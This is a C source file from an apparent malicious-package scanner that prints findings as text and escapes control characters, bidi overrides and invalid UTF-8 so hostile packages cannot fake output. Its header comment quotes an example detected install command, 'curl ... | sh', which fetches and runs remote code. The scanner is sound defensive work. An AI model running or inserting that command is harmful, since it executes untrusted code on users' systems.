/* report-text.c - the report for people.
 *
 *   evil-1.0.0.tgz [package]: npm evil@1.0.0: MALICIOUS (score 9.5)
 *     critical  npm-install-downloader  package.json:5:3  Install script ...
 *       postinstall pipes curl into sh
 *       evidence: decoded from base64 at line 3
 *       > curl -s http://198.51.100.7/x | sh
 *       fix: Do not install this version; ...
 *   error: broken.tgz: input is malformed
 *   2 packages: 1 malicious, 0 suspicious, 1 clean; 1 finding (...); 1 error
 *
 * Every string from the report passes through add_safe(), so nothing from
 * a hostile package (ESC sequences, newlines, bidi overrides, invalid
 * UTF-8) reaches the terminal raw and no field can fake a line. Colour
 * adds ANSI codes around severity and verdict words and changes nothing
 * else.
 */
#include "writers.h"
#include "util/buf.h"
#include "util/error.h"

#include <string.h>

#define ANSI_RESET "\033[0m"

/* Invisible characters that reorder or hide text (Trojan Source). */
static int is_hidden_format(uint32_t cp)
{
    return (cp >= 0x200B && cp <= 0x200F) || (cp >= 0x202A && cp <= 0x202E) ||
           (cp >= 0x2060 && cp <= 0x2064) || (cp >= 0x2066 && cp <= 0x2069) ||
           cp == 0xFEFF;
}

/* Appends s with every C0 control, DEL and invalid UTF-8 byte as \xNN,
 * and C1 controls and hidden format characters as \uNNNN. */
static void add_safe(pwi_buf *b, const char *s)
{
    const unsigned char *p = (const unsigned char *)s;
    size_t n = strlen(s);
    while (n > 0) {
        uint32_t cp;
        size_t len = pwi_utf8_decode(p, n, &cp);
        if (len == 0 || cp < 0x20 || cp == 0x7F) {
            pwi_buf_printf(b, "\\x%02x", p[0]);
            len = 1;
        } else if ((cp >= 0x80 && cp <= 0x9F) || is_hidden_format(cp)) {
            pwi_buf_printf(b, "\\u%04x", (unsigned)cp);
        } else {
            pwi_buf_add(b, p, len);
        }
        p += len;
        n -= len;
    }
}

static const char *severity_color(pw_severity s)
{
    switch (s) {
    case PW_SEV_CRITICAL: return "\033[1;31m";
    case PW_SEV_HIGH: return "\033[31m";
    case PW_SEV_MEDIUM: return "\033[33m";
    case PW_SEV_LOW: return "\033[36m";
    case PW_SEV_INFO: return "\033[2m";
    }
    return "";
}

static void add_word(pwi_buf *b, const pw_write_options *opt,
                     const char *color, const char *word)
{
    if (opt->color && *color)
        pwi_buf_printf(b, "%s%s" ANSI_RESET, color, word);
    else
        pwi_buf_adds(b, word);
}

/* Scores are multiples of 1/100; print the shortest exact form ("9",
 * "4.5", "0.99") without going through the locale's decimal point. */
static void add_score(pwi_buf *b, double score)
{
    if (!(score >= 0) || score > 1e9)
        score = 0;
    long long cents = (long long)(score * 100 + 0.5);
    long long whole = cents / 100, frac = cents % 100;
    if (frac == 0)
        pwi_buf_printf(b, "%lld", whole);
    else if (frac % 10 == 0)
        pwi_buf_printf(b, "%lld.%lld", whole, frac / 10);
    else
        pwi_buf_printf(b, "%lld.%02lld", whole, frac);
}

static void add_package_header(pwi_buf *b, const pw_package_info *p,
                               const pw_write_options *opt)
{
    add_safe(b, p->source);
    if (*p->root) {
        pwi_buf_adds(b, " [");
        add_safe(b, p->root);
        pwi_buf_adds(b, "]");
    }
    pwi_buf_adds(b, ": ");
    add_safe(b, p->ecosystem);
    pwi_buf_addc(b, ' ');
    add_safe(b, *p->name ? p->name : "(unnamed)");
    if (*p->version) {
        pwi_buf_addc(b, '@');
        add_safe(b, p->version);
    }
    pwi_buf_adds(b, ": ");
    switch (p->verdict) {
    case PW_VERDICT_MALICIOUS:
        add_word(b, opt, "\033[1;31m", "MALICIOUS");
        break;
    case PW_VERDICT_SUSPICIOUS:
        add_word(b, opt, "\033[33m", "suspicious");
        break;
    default:
        add_word(b, opt, "\033[32m", pw_verdict_name(p->verdict));
        break;
    }
    pwi_buf_adds(b, " (score ");
    add_score(b, p->score);
    pwi_buf_adds(b, ")\n");
}

static void add_location(pwi_buf *b, const pw_finding *f)
{
    add_safe(b, *f->path ? f->path : "(package)");
    if (f->line > 0) {
        pwi_buf_printf(b, ":%zu", f->line);
        if (f->column > 0)
            pwi_buf_printf(b, ":%zu", f->column);
    }
}

/* One indented detail line: prefix, then the escaped value. */
static void add_detail(pwi_buf *b, const char *prefix, const char *value)
{
    if (!*value)
        return;
    pwi_buf_adds(b, "    ");
    pwi_buf_adds(b, prefix);
    add_safe(b, value);
    pwi_buf_addc(b, '\n');
}

static void add_finding(pwi_buf *b, const pw_finding *f,
                        const pw_write_options *opt)
{
    const char *sev = pw_severity_name(f->severity);
    pwi_buf_adds(b, "  ");
    add_word(b, opt, severity_color(f->severity), sev);
    /* pad outside the colour codes so columns line up either way */
    for (size_t w = strlen(sev); w < 8; w++)
        pwi_buf_addc(b, ' ');
    pwi_buf_adds(b, "  ");
    add_safe(b, f->rule);
    pwi_buf_adds(b, "  ");
    add_location(b, f);
    pwi_buf_adds(b, "  ");
    add_safe(b, f->title);
    pwi_buf_addc(b, '\n');
    /* a message that only repeats the title adds nothing */
    if (strcmp(f->message, f->title))
        add_detail(b, "", f->message);
    add_detail(b, "evidence: ", f->evidence);
    add_detail(b, "> ", f->snippet);
    add_detail(b, "fix: ", f->remediation);
}

static void add_error(pwi_buf *b, const pw_report_error *e)
{
    pwi_buf_adds(b, "error: ");
    add_safe(b, *e->input ? e->input : "(input)");
    if (e->line > 0)
        pwi_buf_printf(b, ":%zu", e->line);
    pwi_buf_adds(b, ": ");
    add_safe(b, *e->message ? e->message : pw_strerror(e->code));
    pwi_buf_addc(b, '\n');
}

static const char *plural(size_t n, const char *one, const char *many)
{
    return n == 1 ? one : many;
}

static void add_summary(pwi_buf *b, const pwi_report_counts *c,
                        pw_severity min)
{
    pwi_buf_printf(b, "%zu %s: %zu malicious, %zu suspicious, %zu clean; ",
                   c->packages, plural(c->packages, "package", "packages"),
                   c->verdicts[PW_VERDICT_MALICIOUS],
                   c->verdicts[PW_VERDICT_SUSPICIOUS],
                   c->verdicts[PW_VERDICT_CLEAN]);
    pwi_buf_printf(b,
                   "%zu %s (%zu critical, %zu high, %zu medium, %zu low, "
                   "%zu info)",
                   c->findings, plural(c->findings, "finding", "findings"),
                   c->by_severity[PW_SEV_CRITICAL], c->by_severity[PW_SEV_HIGH],
                   c->by_severity[PW_SEV_MEDIUM], c->by_severity[PW_SEV_LOW],
                   c->by_severity[PW_SEV_INFO]);
    if (c->omitted)
        pwi_buf_printf(b, ", %zu omitted below %s", c->omitted,
                       pw_severity_name(min));
    if (c->suppressed)
        pwi_buf_printf(b, ", %zu suppressed", c->suppressed);
    pwi_buf_printf(b, "; %zu %s\n", c->errors,
                   plural(c->errors, "error", "errors"));
}

pw_status pwi_write_text(const pw_report *rep, FILE *out,
                         const pw_write_options *opt, pw_error *err)
{
    pwi_buf b;
    pwi_buf_init(&b, 0);
    size_t npkgs = pw_report_package_count(rep);
    for (size_t i = 0; i < npkgs && !opt->quiet; i++) {
        size_t n = pw_report_finding_count(rep, i);
        if (opt->only_flagged) {
            size_t shown = 0;
            for (size_t j = 0; j < n; j++)
                shown += pw_report_finding(rep, i, j)->severity >=
                         opt->min_severity;
            if (!shown)
                continue;
        }
        add_package_header(&b, pw_report_package(rep, i), opt);
        for (size_t j = 0; j < n; j++) {
            const pw_finding *f = pw_report_finding(rep, i, j);
            if (f->severity >= opt->min_severity)
                add_finding(&b, f, opt);
        }
    }
    size_t nerrors = pw_report_error_count(rep);
    for (size_t i = 0; i < nerrors; i++)
        add_error(&b, pw_report_error_at(rep, i));
    pwi_report_counts c;
    pwi_report_counts_compute(rep, opt->min_severity, &c);
    add_summary(&b, &c, opt->min_severity);

    size_t wrote = b.len ? fwrite(b.data, 1, b.len, out) : 0;
    size_t want = b.len;
    pwi_buf_release(&b);
    if (wrote != want || fflush(out) != 0 || ferror(out))
        return pwi_error(err, PW_ERR_IO, NULL, 0, 0,
                         "cannot write the text report");
    return PW_OK;
}
